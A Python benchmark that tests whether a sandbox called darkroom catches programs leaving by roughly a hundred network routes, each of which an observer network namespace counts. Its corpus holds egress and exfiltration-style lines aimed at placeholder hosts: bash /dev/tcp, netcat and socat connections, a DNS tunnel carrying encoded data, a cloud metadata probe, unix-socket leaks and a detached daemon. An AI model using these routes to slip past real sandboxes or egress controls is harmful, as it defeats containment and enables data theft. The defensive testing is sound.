"""How many ways out does the darkroom see, and does anything get out? Real programs, and an observer who is not us.

    sudo python benchmarks/darkroom_channels.py [--only WORD]

Each channel is a program that leaves by one way. It runs bare first: the observer, who counts packets in a network of
its own that stands for the world outside, must see it, else the channel tests nothing. Then it runs in the dark, once
per backend: it must be caught with the name or address and the process, and the observer must see nothing at all.

The observer is the kernel: nftables counts every packet of the world's own programs, the network device every frame.
Programs that are not installed are left out and said so. RINGTRUE_CLIENTS names a Python with the client libraries
(requests httpx[http2,socks] aiohttp grpcio pycares dnspython websockets aioquic PySocks paramiko pymysql redis pymongo
paho-mqtt boto3).
"""

import argparse
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from ringtrue.instruments.darkroom import NOT_OBSERVED, Backend, Darkness
from ringtrue.instruments.darkroom.run import darken

HERE = Path(__file__).parent / "channels"
PYTHON = sys.executable
CLIENTS = os.environ.get("RINGTRUE_CLIENTS", sys.executable)
NAME, V4, V6 = "away.example", "203.0.113.9", "2001:db8:7::9"
MOST = 8.0
"""Seconds that one channel may take."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Channel:
    """One way out: its name, the command, whom it tries to reach, and by which protocol where that alone tells."""

    says: str
    command: tuple[str, ...]
    reaches: str = NAME
    protocol: str = ""
    needs: str = ""
    packets: bool = True
    shared: bool = False
    """It leads to this machine's own loopback, which a network namespace does not have."""


def py(code: str, *, client: str = "") -> tuple[str, ...]:
    """A Python program; with the client library that it needs, by the Python that has it."""
    return (CLIENTS if client else PYTHON, "-c", "import os, socket, subprocess, sys, threading, time\n" + code)


UDP = "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
QUERY = "b'ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4away\\7example\\0\\0\\1\\0\\1'"


def channels(built: Path, unix: Path) -> list[Channel]:
    """The corpus; `built` holds the compiled programs, `unix` is a socket of a process outside."""

    def c(says: str, *command: str, **told: object) -> Channel:
        return Channel(says=says, command=command, **told)

    def p(says: str, code: str, *, client: str = "", **told: object) -> Channel:
        return Channel(says=says, command=py(code, client=client), needs=client, **told)

    url = f"http://{NAME}/"
    tls = f"https://{NAME}/"
    return [
        # the system's own programs
        c("curl, HTTPS", "curl", "-skm4", tls),
        c("curl, HTTP by address", "curl", "-sm4", f"http://{V4}/", reaches=V4),
        c("curl, IPv6 by address", "curl", "-sgm4", f"http://[{V6}]/", reaches=V6),
        c("curl, FTP", "curl", "-sm4", f"ftp://{NAME}/x"),
        c("curl, through an HTTP proxy", "curl", "-skm4", "-x", "http://proxy.example:3128", tls),
        c("curl, by proxy variables", "env", "https_proxy=http://proxy.example:3128", "curl", "-skm4", tls),
        c("curl, through SOCKS5", "curl", "-skm4", "--socks5-hostname", "proxy.example:1080", tls),
        c("curl, through SOCKS4a", "curl", "-skm4", "--socks4a", "proxy.example:1080", tls),
        c("curl, DNS over HTTPS", "curl", "-skm4", "--doh-url", f"https://{V4}/dns-query", tls, reaches=V4),
        c("curl, name and address given", "curl", "-skm4", "--resolve", f"{NAME}:443:{V4}", tls),
        c("curl, TCP fast open", "curl", "-skm4", "--tcp-fastopen", f"https://{V4}/", reaches=V4),
        c("wget", "wget", "-qT4", "-t1", "-O", "/dev/null", url),
        c("aria2", "aria2c", "-q", "--connect-timeout=4", "--max-tries=1", "-d", "/tmp", "-o", "x.drill", url),
        c("lftp", "lftp", "-c", f"set net:timeout 3; set net:max-retries 1; open http://{NAME}; ls"),
        c("git, HTTPS", "git", "ls-remote", f"https://{NAME}/a.git"),
        c("git, git://", "git", "ls-remote", f"git://{NAME}/a.git"),
        c("ssh", "ssh", "-oConnectTimeout=4", "-oStrictHostKeyChecking=no", f"a@{NAME}", "true"),
        c("rsync", "rsync", "--contimeout=4", f"rsync://{NAME}/x", "/tmp/"),
        c("dig, at another resolver", "dig", "+time=1", "+tries=1", f"@{V4}", NAME),
        c("dig, over TCP", "dig", "+tcp", "+time=1", "+tries=1", f"@{V4}", NAME),
        c("host", "host", "-W1", NAME),
        c("getent", "getent", "ahosts", NAME),
        c("busybox, static", "busybox", "wget", "-T4", "-qO", "/dev/null", url),
        c("busybox nslookup", "busybox", "nslookup", NAME),
        c("netcat, TCP", "nc", "-w3", V4, "4444", reaches=V4),
        c("netcat, UDP", "sh", "-c", f"echo x | nc -u -w1 {V4} 4445", reaches=V4),
        c("ncat", "sh", "-c", f"echo x | ncat -w3 {V4} 4446", reaches=V4),
        c("socat", "socat", "-T2", "/dev/null", f"TCP:{NAME}:4447,connect-timeout=3"),
        c("telnet", "telnet", V4, "23", reaches=V4),
        c("openssl s_client", "sh", "-c", f"openssl s_client -connect {NAME}:443 </dev/null"),
        c("bash, /dev/tcp", "bash", "-c", f"exec 3<>/dev/tcp/{NAME}/80"),
        c("bash, /dev/udp", "bash", "-c", f"echo x >/dev/udp/{V4}/514", reaches=V4),
        c("logger, syslog abroad", "logger", "-n", V4, "-P", "514", "-d", "x", reaches=V4),
        c("ping", "ping", "-c1", "-W1", V4, reaches="raw socket"),
        c("ntpdate", "ntpdate", "-q", NAME),
        c("mosquitto, MQTT", "mosquitto_pub", "-h", NAME, "-t", "a", "-m", "b"),
        c("redis", "redis-cli", "-h", NAME, "ping"),
        c("PostgreSQL", "psql", "-w", f"host={NAME} connect_timeout=3 user=a dbname=a"),
        c("SNMP", "snmpget", "-v2c", "-cpublic", "-t1", "-r0", V4, "1.3.6.1.2.1.1.1.0", reaches=V4),
        c("LDAP", "ldapsearch", "-x", "-H", f"ldap://{NAME}", "-o", "nettimeout=3"),
        # other languages
        c("C, glibc", f"{built}/glibc", NAME, "80"),
        c("C, glibc, static", f"{built}/static", NAME, "80"),
        c("C, musl, static", f"{built}/musl", NAME, "80"),
        c("C, bare system calls", f"{built}/bare", V4, "80", reaches=V4),
        c("C, io_uring", f"{built}/ring", V4, "80", reaches="io_uring"),
        c("Go, static, own resolver", f"{built}/go", "tcp", f"{NAME}:80"),
        c("Go, UDP", f"{built}/go", "udp", f"{V4}:514", reaches=V4),
        c("Go, IPv6", f"{built}/go", "tcp", f"[{V6}]:80", reaches=V6),
        c("Rust", f"{built}/rust", f"{NAME}:80"),
        c("Java, HTTP client", "java", "-cp", str(built), "Connect", "http", url),
        c("Java, NIO", "java", "-cp", str(built), "Connect", "nio", NAME, "4450"),
        c("Java, UDP", "java", "-cp", str(built), "Connect", "udp", V4, "4451", reaches=V4),
        c("node, https", "node", "-e", f"require('https').get('{tls}').on('error',()=>{{}})"),
        c("node, fetch", "node", "-e", f"fetch('{url}').catch(()=>{{}})"),
        c("node, UDP", "node", "-e", f"const s=require('dgram').createSocket('udp4');s.send('x',4452,'{V4}',()=>s.close())",
          reaches=V4),
        c("node, own resolver (c-ares)", "node", "-e", f"require('dns').resolve4('{NAME}',()=>{{}})"),
        c("perl", "perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new(PeerAddr=>'{NAME}:80',Timeout=>3)"),
        c("ruby", "ruby", "-rsocket", "-e", f"TCPSocket.new('{NAME}', 80)"),
        c("PHP", "php", "-r", f"@file_get_contents('{url}');"),
        # Python, plain
        p("Python, urllib", f"import urllib.request; urllib.request.urlopen('{url}', timeout=4)"),
        p("Python, asyncio", f"import asyncio; asyncio.run(asyncio.open_connection('{NAME}', 80))"),
        p("Python, smtplib", f"import smtplib; smtplib.SMTP('{NAME}', 25, timeout=4)"),
        p("Python, mapped IPv4 in IPv6", f"socket.socket(socket.AF_INET6).connect(('::ffff:{V4}', 80))", reaches=V4),
        p("UDP, sendto", UDP + f"u.sendto(b'x', ('{V4}', 4433))", reaches=V4),
        p("UDP, connected", UDP + f"u.connect(('{V4}', 4434)); u.send(b'x')", reaches=V4),
        p("UDP, sendmsg", UDP + f"u.sendmsg([b'x'], [], 0, ('{V4}', 4435))", reaches=V4),
        p("UDP, IPv6", f"socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('{V6}', 4436))", reaches=V6),
        p("DNS to an address of its own", UDP + f"u.sendto({QUERY}, ('{V4}', 53))"),
        p("DNS tunnel: data in a name", "socket.getaddrinfo('c2VjcmV0.tunnel.example', 1)",
          reaches="c2vjcmv0.tunnel.example"),
        p("multicast (SSDP)", UDP + "u.sendto(b'x', ('239.255.255.250', 1900))", reaches="239.255.255.250"),
        p("broadcast", UDP + "u.setsockopt(1, 6, 1); u.sendto(b'x', ('255.255.255.255', 5053))",
          reaches="255.255.255.255"),
        p("cloud metadata", "socket.create_connection(('169.254.169.254', 80), 2)", reaches="169.254.169.254"),
        p("raw socket (ICMP)", f"socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\10\\0\\xf7\\xff\\0\\0\\0\\0', ('{V4}', 0))",
          reaches="raw socket"),
        p("packet socket", "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('eth0', 0)); s.send(b'x' * 60)",
          reaches="family AF_PACKET type 3"),
        p("vsock to the hypervisor", "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)",
          reaches="family AF_VSOCK type 1", packets=False),
        p("unix socket to the host", f"s = socket.socket(socket.AF_UNIX); s.connect('{unix}'); s.sendall(b'secret')",
          reaches=str(unix), packets=False),
        p("unix datagram to the host", f"socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'secret', '{unix}.dgram')",
          reaches=f"{unix}.dgram", packets=False),
        p("a child of a child", f"subprocess.run(['sh', '-c', 'bash -c \"exec 3<>/dev/tcp/{NAME}/80\"'])"),
        p("a daemon after the end", f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.4); socket.create_connection(('{NAME}', 80), 2)
    os._exit(0)
"""),
        p("64 threads", f"""
def go(): socket.create_connection(('{NAME}', 80), 3)
threads = [threading.Thread(target=go) for _ in range(64)]
[t.start() for t in threads]; [t.join() for t in threads]
"""),
        p("a storm of 100 forks", f"""
for _ in range(100):
    if os.fork() == 0:
        try: socket.create_connection(('{V4}', 80), 2)
        finally: os._exit(0)
for _ in range(100): os.wait()
""", reaches=V4),
        c("a storm of 50 programs", "bash", "-c",
          f"for i in $(seq 50); do bash -c 'exec 3<>/dev/tcp/{V4}/80' & done; wait", reaches=V4),
        p("a network namespace of its own", f"""
import ctypes
ctypes.CDLL(None).unshare(0x50000000)
socket.create_connection(('{V4}', 80), 2)
""", reaches=V4, packets=False),
        p("a neighbour that forwards on loopback", "s = socket.create_connection(('127.0.0.1', 7999), 2); s.sendall(b'secret')",
          reaches="127.0.0.1", packets=False, shared=True),
        # Python, client libraries
        p("requests", f"import requests; requests.get('{tls}', timeout=4)", client="requests"),
        p("urllib3", f"import urllib3; urllib3.PoolManager(timeout=4, retries=0).request('GET', '{url}')", client="urllib3"),
        p("httpx", f"import httpx; httpx.get('{url}', timeout=4)", client="httpx"),
        p("httpx, async", f"import httpx, asyncio\nasync def go():\n async with httpx.AsyncClient(timeout=4) as c: await c.get('{url}')\nasyncio.run(go())",
          client="httpx"),
        p("aiohttp", f"import aiohttp, asyncio\nasync def go():\n async with aiohttp.ClientSession() as s:\n  await s.get('{url}')\nasyncio.run(asyncio.wait_for(go(), 4))",
          client="aiohttp"),
        p("grpc", f"import grpc; grpc.channel_ready_future(grpc.insecure_channel('{NAME}:50051')).result(timeout=4)",
          client="grpc"),
        p("c-ares (pycares)", f"import pycares\nc = pycares.Channel(timeout=1, tries=1)\ntry: c.query('{NAME}', pycares.QUERY_TYPE_A, callback=lambda *a: None)\nexcept Exception: c.query('{NAME}', pycares.QUERY_TYPE_A, lambda *a: None)\ntime.sleep(1)",
          client="pycares"),
        p("dnspython, at another resolver", f"import dns.message, dns.query; dns.query.udp(dns.message.make_query('{NAME}', 'A'), '{V4}', timeout=1)",
          client="dns"),
        p("websockets", f"import websockets, asyncio; asyncio.run(asyncio.wait_for(websockets.connect('ws://{NAME}/').__aenter__(), 4))",
          client="websockets"),
        p("QUIC (aioquic)", f"import asyncio\nfrom aioquic.asyncio.client import connect\nasync def go():\n async with connect('{V4}', 443): pass\nasyncio.run(asyncio.wait_for(go(), 3))",
          client="aioquic", reaches=V4),
        p("SOCKS by library", f"import socks; s = socks.socksocket(); s.set_proxy(socks.SOCKS5, 'proxy.example', 1080, rdns=True); s.settimeout(3); s.connect(('{NAME}', 443))",
          client="socks"),
        p("paramiko, SSH", f"import paramiko; paramiko.SSHClient().connect('{NAME}', timeout=3)", client="paramiko"),
        p("PyMySQL", f"import pymysql; pymysql.connect(host='{NAME}', connect_timeout=3)", client="pymysql"),
        p("redis-py", f"import redis; redis.Redis('{NAME}', socket_connect_timeout=3).ping()", client="redis"),
        p("pymongo", f"import pymongo; pymongo.MongoClient('{NAME}', serverSelectionTimeoutMS=2000).admin.command('ping')",
          client="pymongo"),
        p("paho, MQTT", f"import paho.mqtt.client as m; m.Client(m.CallbackAPIVersion.VERSION2).connect('{NAME}')", client="paho"),
        p("boto3, S3", f"import boto3; boto3.client('s3', endpoint_url='{url}', region_name='x', aws_access_key_id='a', aws_secret_access_key='b', config=__import__('botocore.config').config.Config(connect_timeout=2, retries={{'max_attempts': 0}})).list_buckets()",
          client="boto3"),
    ]  # fmt: skip


def build(folder: Path) -> None:
    """Compiles what can be compiled here."""
    env = {
        **os.environ,
        "CGO_ENABLED": "0",
        "GOCACHE": str(folder / "cache"),
        "GOFLAGS": "-mod=mod",
        "HOME": str(folder),
    }
    for command in (
        ("gcc", "-o", "glibc", HERE / "connect.c"),
        ("gcc", "-static", "-w", "-o", "static", HERE / "connect.c"),
        ("musl-gcc", "-static", "-o", "musl", HERE / "connect.c"),
        ("gcc", "-o", "bare", HERE / "bare.c"),
        ("gcc", "-o", "ring", HERE / "ring.c", "-luring"),
        ("go", "build", "-o", "go", HERE / "connect.go"),
        ("rustc", "-o", "rust", HERE / "connect.rs"),
        ("javac", "-d", ".", HERE / "Connect.java"),
    ):
        if shutil.which(str(command[0])):
            keep = {} if command[0] == "rustc" else {"env": env}
            subprocess.run(command, cwd=folder, check=False, capture_output=True, **keep)


SETUP = f"""
ip link set lo up
ip link add eth0 type veth peer name far && echo 1 > /proc/sys/net/ipv6/conf/far/disable_ipv6
ip link set far up && ip link set eth0 up
echo 0 > /proc/sys/net/ipv6/conf/eth0/router_solicitations
echo 0 > /proc/sys/net/ipv6/conf/eth0/accept_dad
ip addr add 10.99.0.2/24 dev eth0 && ip -6 addr add 2001:db8:99::2/64 dev eth0 nodad
ip neigh add 10.99.0.1 lladdr 02:00:00:00:00:01 dev eth0 && ip route add default via 10.99.0.1
ip -6 neigh add 2001:db8:99::1 lladdr 02:00:00:00:00:01 dev eth0 && ip -6 route add default via 2001:db8:99::1
ip route add local {V4} dev lo && ip -6 route add local {V6} dev lo
nft -f - <<'RULES'
table inet outside {{
  counter out {{ }}
  chain seen {{
    type filter hook output priority 0;
    ip daddr 127.0.0.0/8 accept
    ip6 daddr ::1 accept
    ct direction reply accept
    meta l4proto ipv6-icmp ip6 daddr ff02::/16 accept
    udp sport 53 accept
    meta l4proto {{ tcp, udp, icmp, ipv6-icmp }} counter name out
  }}
}}
RULES
"""


class Outside:
    """The world: a resolver that answers every name, and the kernel's counts of what went there."""

    def __init__(self, folder: Path) -> None:
        subprocess.run(["bash", "-ec", SETUP], check=True)
        resolver = folder / "resolv.conf"
        resolver.write_text("nameserver 10.99.0.2\noptions timeout:1 attempts:1\n")
        subprocess.run(["mount", "--bind", resolver, os.path.realpath("/etc/resolv.conf")], check=True)
        self.unix = folder / "host.sock"
        self.reached = 0
        self._names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._names.bind(("10.99.0.2", 53))
        listeners = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)]
        listeners[0].bind(str(self.unix))
        listeners[1].bind(f"{self.unix}.dgram")
        listeners[0].listen(64)
        forward = socket.create_server(("127.0.0.1", 7999))
        for work in (self._answer, lambda: self._hear(listeners[0]), lambda: self._hear(forward),
                     lambda: self._read(listeners[1])):  # fmt: skip
            threading.Thread(target=work, daemon=True).start()

    def settle(self) -> None:
        """Waits until the kernel has announced its own addresses; a world that is not quiet tells nothing."""
        for _ in range(20):
            before = self.count()
            time.sleep(2)
            if self.count() == before:
                return
        raise SystemExit("the world outside is not quiet")

    def count(self) -> int:
        """Packets and frames so far, and what the host's sockets were told."""
        told = json.loads(subprocess.run(["nft", "-j", "list", "counters"], capture_output=True, check=True).stdout)
        packets = sum(each["counter"]["packets"] for each in told["nftables"] if "counter" in each)
        return packets + _frames() + self.reached

    def _answer(self) -> None:
        while True:
            query, caller = self._names.recvfrom(512)
            end = query.index(b"\0", 12) + 5
            a = query[end - 4 : end - 2] == b"\0\1"
            record = b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" + socket.inet_aton(V4) if a else b""
            self._names.sendto(
                query[:2] + b"\x81\x80\0\1\0" + bytes([a]) + b"\0\0\0\0" + query[12:end] + record, caller
            )

    def _hear(self, server: socket.socket) -> None:
        while True:
            if server.accept()[0].recv(99):
                self.reached += 1

    def _read(self, server: socket.socket) -> None:
        while True:
            server.recv(99)
            self.reached += 1


def _frames() -> int:
    """Frames sent by eth0, from the kernel's table of this network namespace."""
    for line in Path("/proc/net/dev").read_text().splitlines():
        if line.strip().startswith("eth0:"):
            return int(line.split(":")[1].split()[8])
    return 0


def bare(channel: Channel, outside: Outside) -> int:
    """What the observer sees of a channel without the darkroom."""
    before = outside.count()
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(channel.command, stdin=subprocess.DEVNULL, capture_output=True, timeout=MOST, check=False)
    time.sleep(0.6 if "daemon" in channel.says else 0.05)
    return outside.count() - before


def dark(channel: Channel, backend: Backend, outside: Outside) -> tuple[bool, int, str]:
    """Whether a channel is caught with who took it, what the observer sees, and what was seen instead."""
    before = outside.count()
    run = darken(
        Darkness(command=channel.command, cwd="/tmp", env=dict(os.environ), backend=backend, timeout=MOST),
        output=subprocess.DEVNULL,
    )
    named = {each.name or each.address or each.protocol for each in run.attempts if each.pid > 0 and each.exe}
    named |= {each.protocol for each in run.attempts}
    found = channel.reaches in named or (channel.shared and backend is Backend.NAMESPACE and run.exit_code == 1)
    return found, outside.count() - before, ", ".join(sorted(named)) + "; ".join(run.troubles)


def main() -> int:
    """Runs the corpus and prints a line per channel."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", default="", help="channels whose name holds this")
    given = parser.parse_args()
    if os.geteuid() != 0:
        print("needs root: the observer is a network of its own")
        return 1
    if os.environ.get("RINGTRUE_OUTSIDE") != "1":
        env = {**os.environ, "RINGTRUE_OUTSIDE": "1"}
        return subprocess.run(["unshare", "-n", "-m", sys.executable, *sys.argv], env=env, check=False).returncode
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        folder.chmod(0o755)
        build(folder)
        outside = Outside(folder)
        outside.settle()
        corpus = [each for each in channels(folder, outside.unix) if given.only in each.says]
        return told(corpus, outside)


def told(corpus: list[Channel], outside: Outside) -> int:
    """Runs every channel that can be run here and prints what came of it."""
    there, absent = [], []
    for each in corpus:
        (there if _installed(each) else absent).append(each)
    failures = run = 0
    caught = dict.fromkeys(Backend, 0)
    got_out = dict.fromkeys(Backend, 0)
    print(f"{'channel':<40} {'bare: seen outside':>18}   " + "   ".join(f"{each:>20}" for each in Backend))
    for channel in there:
        seen = bare(channel, outside)
        if not seen and channel.packets:
            absent.append(channel)
            continue
        run += 1
        cells = []
        for backend in Backend:
            found, out, instead = dark(channel, backend, outside)
            caught[backend] += found
            got_out[backend] += out
            failures += (not found) + bool(out)
            cells.append(f"{'caught' if found else 'MISSED: ' + instead[:60]}, {out} out")
        print(f"{channel.says:<40} {seen:>18}   " + "   ".join(f"{each:>20}" for each in cells), flush=True)
    print()
    for backend in Backend:
        print(f"{backend}: {caught[backend]} of {run} caught, {got_out[backend]} packets out; stated limits: "
              f"{'; '.join(NOT_OBSERVED[backend])}")  # fmt: skip
    if absent:
        print(
            f"left out, because not installed or not seen outside when bare: {', '.join(each.says for each in absent)}"
        )
    return int(failures > 0)


def _installed(channel: Channel) -> bool:
    if channel.needs:
        code = f"import importlib.util, sys; sys.exit(importlib.util.find_spec({channel.needs!r}) is None)"
        return subprocess.run([CLIENTS, "-c", code], check=False, capture_output=True).returncode == 0
    if channel.command[0] == "java" and not list(Path(channel.command[2]).glob("Connect.class")):
        return False
    program = channel.command[3] if channel.command[:1] == ("env",) else channel.command[0]
    return shutil.which(channel.command[2] if channel.command[0] == "env" else program) is not None


if __name__ == "__main__":
    sys.exit(main())
